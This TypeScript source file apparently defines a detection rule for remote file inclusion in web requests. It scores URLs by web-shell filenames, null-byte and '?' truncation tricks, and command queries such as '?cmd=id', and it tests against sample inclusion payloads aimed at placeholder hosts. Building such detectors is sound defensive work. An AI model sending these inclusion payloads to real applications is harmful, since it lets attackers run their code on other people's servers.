import { hasNumericHost, type Url } from '../../grammars/url/url.ts';
import { confidence } from '../../placement/confidence.ts';
import { isIncludeMember, strongestInclude } from '../../placement/include-place.ts';
import type { Subject } from '../../placement/subject.ts';
import { wordList, wordMap, wordSet } from '../../text/words.ts';
import type { ValueRule } from '../rule.ts';

/**
 * A URL in the shape that an `include` needs: a script as text, and a mark that cuts off what is
 * appended.
 */
export const remoteScript: ValueRule = {
  id: 'rfi.remote-script',
  score: confidence.strong,
  message: 'names a script on another machine so that an include runs it here',
  trigger: {
    literals: [
      ['http', 'ftp', '//', '\\\\'],
      [
        ...wordList(
          '.txt .php .phtml .asp .jsp .inc .gif .jpg .png .dat .htm .cgi .pl .py .log .cfm',
          '.sh .exe? .nsf? .do? .action? ? #',
        ),
        '\u0000',
        '%00',
        '??',
      ],
    ],
  },
  judge: (subject) => {
    const state: Reading = { call: undefined, plainTo: 0 };
    return strongestInclude(subject, (url, isValue) =>
      isValue ? scoreOf(subject, url, state) : 0,
    );
  },
  examples: [
    ...['http://files.example.net/c99.txt?', 'https://203.0.113.9/shell.php?cmd=id'],
    ...['/main.php?root_path=http://203.0.113.9/x.txt', 'ftp://files.example.net/r57.txt'],
    ...['//files.example.net/shell.txt%00', '/a.php?b=http://files.example.net/any??'],
    ...['http://files.example.net/page.php\u0000', '/load.php?abspath=http://files.example.net/a'],
    ...['page=http://files.example.net/menu.txt', 'index.php?include=ftp://files.example.net/a'],
    ...['/index.php?page=http://files.example.net/shell', 'https://files.example.net/malware.php'],
    ...['/index.php?template=http://files.example.net/menu', 'http://files.example.net/menu.gif?/'],
    ...['http://files.example.net/menu.php%23', 'hthttptp://files.example.net/menu.txt?'],
    { body: { include: 'http://files.example.net/menu.txt' } },
    { body: { 'query.page': 'http://files.example.net/menu.php/./' } },
    { body: { 'query.page': 'http://files.example.net/menu.txt' } },
    { body: { path: '/index.php?page=http://files.example.net/menu.php' } },
    { body: { 'query.include': '//203.0.113.9/menu.php' } },
    { body: { 'query.config': 'http://files.example.net/config.inc.php?' } },
    { body: { lang: 'http://files.example.net/en.php?' } },
    { body: { template: 'http://files.example.net/menu.html?' } },
    { body: { module: 'ftp://files.example.net/mod.phtml' } },
    { body: { 'query.lang': 'http://files.example.net/en#' } },
    { body: { theme: 'ftp://203.0.113.9/dark#?' } },
  ],
  lookalikes: [
    ...['https://www.example.com/index.php?id=7&cmd=show', 'https://www.example.com/robots.txt'],
    ...['/login.php?next=https://www.example.com/index.php?a=1', 'https://www.example.com/?'],
    'the list is at http://www.example.com/names.txt, have a look',
    ...['https://www.example.com/search?q=what%3F', '//cdn.example.net/lib/app.js?v=1.2'],
    ...['https://www.example.com/index.php?/news', 'https://www.example.com/index.php?'],
    ...['/share.php?page=http://www.example.com/index.php', 'https://www.example.com/photo.jpg#'],
    '/stats.php?url=http://www.example.com/menu.php',
    '/view.php?url=http://www.example.com/notes',
    'https://www.example.com/viewer?file=https://www.example.com/notes.txt',
    '/a/1.php?PageName=https://www.example.com/#/',
    { body: { file: 'https://www.example.com/notes.txt' } },
    { body: { page: 'https://www.example.com/notes.txt?lang=de' } },
    { body: { 'query.page': 'https://www.example.com/notes.txt' } },
    { body: { 'query.url': 'http://www.example.com/menu.php' } },
    { body: { module: 'https://cdn.example.net/lib/app.js' } },
    { body: { theme: 'https://cdn.example.net/dark.css?' } },
    { body: { lang: 'https://www.example.com/en' } },
    { body: { theme: 'https://cdn.example.net/dark.css', lang: 'de' } },
  ],
};

/** What is known of a text while its URLs are judged in order. */
interface Reading {
  /** Offset of the first call of a script in the text, -1 without; undefined before it is asked. */
  call: number | undefined;
  /** No path ends between the last URL and here: URLs inside each other are not read twice. */
  plainTo: number;
}

/** What is read of a URL, as bits. First of the name that its path ends in: */
const script = 1 << 0;
/** A program of a site, which may take what follows `?/` as a path. */
const page = 1 << 1;
const text = 1 << 2;
/** What a page loads, and no program includes. */
const asset = 1 << 3;
/** A name under which web shells are passed on; without an extension, which a program appends. */
const shell = 1 << 4;
const bareShell = 1 << 5;
/** `index.php` */
const ordinary = 1 << 6;
const named = 1 << 7;
/** Of what follows the path: nothing, or a command. */
const plain = 1 << 8;
const command = 1 << 9;
/** What a script appends does not count, or becomes a query or a fragment. */
const ended = 1 << 10;
const cut = 1 << 11;
/** An empty form makes `index.php?`, an empty link `index.php#`. */
const weakCut = 1 << 12;
const query = 1 << 13;
const pathInfo = 1 << 14;
/** Of its scheme and host. */
const http = 1 << 15;
const https = 1 << 16;
const ftp = 1 << 17;
const absolute = 1 << 18;
const numeric = 1 << 19;
/** Of what it is the value of: a parameter of a script, as in `/x.php?dir=`, or any other. */
const embedded = 1 << 20;
const parameter = 1 << 21;
/** A folder that a program of PHP puts in front of what it includes; a part of its page. */
const root = 1 << 22;
const part = 1 << 23;
/** A member that applications include, or such a parameter. */
const member = 1 << 24;
const included = 1 << 25;

/** The level of a URL that has all facts of `all` and none of `none`: the first row counts. */
const levels: readonly (readonly [all: number, none: number, level: number])[] = [
  [shell, plain, confidence.certain],
  [shell | embedded, 0, confidence.certain],
  [shell, 0, confidence.strong],
  [script | command, 0, confidence.certain],
  [script | cut, weakCut | pathInfo, confidence.certain],
  [script | pathInfo, page, confidence.certain],
  [script | weakCut | text, 0, confidence.strong],
  [script | weakCut | embedded, 0, confidence.strong],
  [script | weakCut | included, 0, confidence.strong],
  [script | weakCut, 0, confidence.hint],
  [absolute | embedded | command, 0, confidence.certain],
  [absolute | embedded | cut, query, confidence.strong],
  [absolute | embedded | cut | numeric, 0, confidence.strong],
  [absolute | embedded | cut | named, 0, confidence.strong],
  [absolute | embedded | text, 0, confidence.strong],
  [absolute | embedded | script | numeric, 0, confidence.strong],
  [embedded | root, 0, confidence.strong],
  [bareShell | embedded, 0, confidence.strong],
  [bareShell | included, 0, confidence.strong],
  [absolute | embedded | part, 0, confidence.likely],
  [absolute | plain | page | included, https | ordinary, confidence.likely],
  [plain | text | http | included, 0, confidence.likely],
  [plain | text | ftp | parameter, 0, confidence.likely],
  [plain | text | member, 0, confidence.likely],
  [plain | text, 0, confidence.trace],
  // Behind what a program includes: its own ending becomes a query or a fragment.
  [absolute | member | ended, asset, confidence.likely],
  [script | member, https, confidence.hint],
];

function scoreOf(subject: Subject, url: Url, state: Reading): number {
  if (!isIncludeScheme(url.scheme)) return 0;
  const facts = factsOfPath(subject, url, state) | factsOfPlace(subject, url, state);
  for (const [all, none, level] of levels) {
    if ((facts & all) === all && (facts & none) === 0) return level;
  }
  return 0;
}

const pathCharsMax = 160;
const nowhere = /(?:\/\.\/?){1,8}$/;
const includeSchemes: ReadonlySet<string> = new Set(['http', 'https', 'ftp', 'ftps', '']);

/** Also behind a parameter name that has lost its `=`. */
function isIncludeScheme(scheme: string): boolean {
  // `hthttptp:` is what is left when `http` is taken out once.
  const inner = scheme.replace('http', '');
  return includeSchemes.has(scheme) || scheme.endsWith('http') || includeSchemes.has(inner);
}

/** The name that the path ends in, and what follows it. */
function factsOfPath({ text, decoded }: Subject, url: Url, state: Reading): number {
  const end = Math.min(url.end, url.pathStart + pathCharsMax);
  const cutAt = endOfPath(text, Math.min(end, Math.max(url.pathStart, state.plainTo)), end);
  state.plainTo = cutAt;
  // `/x.php/./` is `/x.php`.
  const path = text.slice(url.pathStart, cutAt).replace(nowhere, '').toLowerCase();
  const name = path.slice(path.lastIndexOf('/') + 1);
  return factsOfName(name) | factsOfMark(text.slice(cutAt, end).toLowerCase(), decoded);
}

function factsOfName(name: string): number {
  if (name === '') return 0;
  const dot = name.lastIndexOf('.');
  if (dot < 0) return bareShells.test(name) ? named | bareShell : named;
  let facts = named | (extensions.get(name.slice(dot + 1)) ?? 0);
  if ((facts & script) !== 0 && shells.test(name)) facts |= shell;
  if (ordinaryPages.has(name.slice(0, name.indexOf('.')))) facts |= ordinary;
  return facts;
}

const extensions = wordMap(
  [script | text, 'txt inc dat'],
  [script | page, 'php php3 php4 php5 php7 asp aspx jsp jspx cgi cfm pl'],
  [script, 'phtml py gif jpg jpeg png log'],
  [asset, 'css js mjs json svg woff woff2 ico'],
);
const ordinaryPages = wordSet('index default home main view show page start');

const bareShells = /^(?:c99|r57|(?:web-?)?shell\d?|cmd|evil|backdoor|malware|rfi)$/;
const shells =
  /^(?:c99|r57|c100|b374k|wso\d{0,4}|weevely|p0wny|alfa|indoxploit|mini|marijuana|web-?shell|(?:simple-?|php-?|web-?|mini-?)?backdoor|(?:php-?)?(?:reverse-?)?shell\d{0,4}|evil|malware|cmd|pwn(?:ed)?|exploit|payload|rfi(?:inc|_vuln)?|rce|id)\.(?:txt|php[3457]?|phtml|inc|gif|jpe?g|png|asp|jsp|dat)$/;

function factsOfMark(mark: string, decoded: readonly string[]): number {
  if (mark === '') return plain;
  // A literal `\x00` is no null byte to what reads URLs.
  if (mark.startsWith('\u0000')) return decoded.includes('js-escape') ? 0 : cut | ended;
  let facts = commandQuery.test(mark) ? command : 0;
  if (cutMark.test(mark)) facts |= cut | ended | (marks.get(mark) ?? 0);
  if (emptyFragment.test(mark)) facts |= ended;
  return facts;
}

const cutMark = /^(?:\?{1,3}(?:&.{0,80}|[=';#"/]{0,4})?|#|%00|%23|%3f)$/;
const marks = wordMap([weakCut | query, '?'], [weakCut, '#'], [pathInfo, '?/']);
const emptyFragment = /^#[?#/]{1,3}$/;

/** `?cmd=id`, `?&cmd=ls`, `?c=whoami` */
const commandQuery =
  /^\?{1,2}&?(?:cmd|c|exec|command|x|e|run|0)=(?:id|ls|dir|pwd|whoami|uname|cat|ping|phpinfo|wget|curl|net|ver|ps|echo|type|ipconfig|ifconfig|nc)\b/;

/** The host, and what the URL is the value of. */
function factsOfPlace(subject: Subject, url: Url, state: Reading): number {
  let facts = schemes.get(url.scheme) ?? 0;
  if (url.slashes > 1) facts |= absolute;
  if (hasNumericHost(subject.text, url)) facts |= numeric;
  if (isIncludeMember(subject.member)) facts |= member | included;
  state.call ??= subject.text.search(scriptCall);
  if (isParameterOf(state.call, url)) facts |= embedded;
  const name = url.place === 'parameter' ? parameterOf(subject.text, url) : queryName(subject);
  if (name === '') return facts;
  if (includeRoot.test(name)) facts |= root;
  return facts | parameter | (parameters.get(name.toLowerCase()) ?? 0);
}

const schemes = wordMap([http, 'http'], [https, 'https'], [ftp, 'ftp']);
const parameters = wordMap(
  [included, 'page path content section lang theme config'],
  [included | part, 'inc include load template tpl module layout skin'],
  [part, 'includes require'],
);

/** Is the URL a parameter of a script: `/x.php?dir=`? */
function isParameterOf(call: number, url: Url): boolean {
  const distance = url.start - call;
  return url.place === 'parameter' && call >= 0 && distance > 0 && distance < parameterCharsMax;
}

const parameterCharsMax = 300;
const scriptCall =
  /\.(?:php[3457]?|phtml|asp|aspx|jsp|cgi|pl|cfm|inc|exe|nsf|html?|do|action)[?/]/i;

/** `page` of `query.page`: the client's own query, taken apart before it came here. */
function queryName(subject: Subject): string {
  return subject.member.startsWith('query.') ? subject.member.slice(6) : '';
}

/** The name in front of `=`. */
function parameterOf(text: string, url: Url): string {
  const before = text.slice(Math.max(0, url.start - 64), url.start);
  return parameterName.exec(before)?.[1] ?? '';
}

const parameterName = /(?:^|[?&;\s])([\w.[\]-]{1,40})=$/;
const includeRoot =
  /^(?:abs_?path|absolute_path|\w{0,24}_root|root_?(?:dir|path|folder)|include_?(?:path|dir)|base_?dir|inc_?dir|lib_?(?:dir|path))$|mosconfig/i;

/** `? # '`, a null byte, or one of them percent-encoded. */
function endOfPath(text: string, from: number, end: number): number {
  for (let at = from; at < end; at++) {
    const code = text.charCodeAt(at);
    if (code === 63 || code === 35 || code === 39 || code === 0) return at;
    if (code === 37 && encodedEnds.has(text.slice(at, at + 3).toLowerCase())) return at;
  }
  return end;
}

const encodedEnds: ReadonlySet<string> = new Set(['%00', '%23', '%3f']);
